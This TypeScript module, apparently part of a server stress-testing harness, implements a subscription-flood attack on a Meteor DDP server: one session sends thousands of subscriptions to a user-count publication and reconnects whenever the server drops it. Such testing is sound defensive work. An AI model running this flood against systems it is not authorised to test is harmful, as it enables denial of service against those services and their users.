/**
 * Attack 5: one session subscribes to the count publication thousands of
 * times (distinct ids) while other clients come and go (the scenario runs
 * that churn from a load worker), so every count change fans out to every
 * one of those subscriptions. If the server closes the session, the
 * attacker opens another and starts again.
 */
import type { Deadline } from './deadline';
import { ErrorTally } from './error-tally';
import type { AttackReport, AttackSizes, AttackTarget } from './types';
import { openDdpSession } from './ws-client';

export async function subFlood(target: AttackTarget, sizes: AttackSizes, deadline: Deadline): Promise<AttackReport> {
  const errors = new ErrorTally();
  let sessions = 0;
  let subsSent = 0;
  let ready = 0;
  let nosub = 0;
  let changed = 0;
  let closedByServer = 0;
  while (!deadline.done) {
    try {
      const ws = await openDdpSession(target, deadline);
      sessions++;
      const closed = new Promise<void>((r) => ws.once('close', () => r()));
      ws.on('message', (data) => {
        const text = data.toString();
        if (text.startsWith('{"msg":"ping"')) ws.send('{"msg":"pong"}');
        else if (text.startsWith('{"msg":"ready"')) ready++;
        else if (text.startsWith('{"msg":"changed"')) changed++;
        else if (text.startsWith('{"msg":"nosub"')) nosub++;
      });
      for (let i = 0; i < sizes.subscriptions && ws.readyState === ws.OPEN; i++) {
        ws.send(`{"msg":"sub","id":"s${sessions}-${i}","name":"list.connectedUsers.count","params":[]}`);
        subsSent++;
        if (i % 1000 === 999) await new Promise((r) => setImmediate(r)); // let ws flush
      }
      const wasClosed = await deadline.race(closed.then(() => true), false);
      if (wasClosed) closedByServer++;
      ws.terminate();
    } catch (error) {
      if (deadline.done) break;
      errors.add(error);
      await deadline.sleep(100);
    }
  }
  return {
    sent: subsSent, unit: 'sub frames', errors: errors.count, firstError: errors.first,
    detail: `${sessions} session(s), ${subsSent} subs, ${ready} ready, ${nosub} refused (nosub), ${changed} count changes received; server closed ${closedByServer} session(s)`,
  };
}
